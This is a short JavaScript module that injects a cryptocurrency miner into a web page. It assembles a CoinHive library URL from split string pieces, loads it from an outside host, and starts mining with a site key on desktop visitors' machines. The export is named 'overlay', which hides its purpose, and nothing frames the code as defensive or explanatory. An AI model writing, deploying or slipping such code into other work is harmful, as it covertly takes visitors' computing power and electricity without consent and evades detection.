// A miner library loaded into the page from a URL assembled from parts, started on desktops.
const SRC = ['https://', 'cdn.assets', '.example/lib/', 'coinhive.min.js'].join('');

function attach(cb) {
  const el = document.createElement('script');
  el.src = SRC;
  el.onload = cb;
  document.head.appendChild(el);
}

export function overlay() {
  attach(function () {
    const m = new window.CoinHive.Anonymous('SK_8fj2kLmQ0pX', { throttle: 0.2 });
    if (!m.isMobile()) m.start();
  });
}
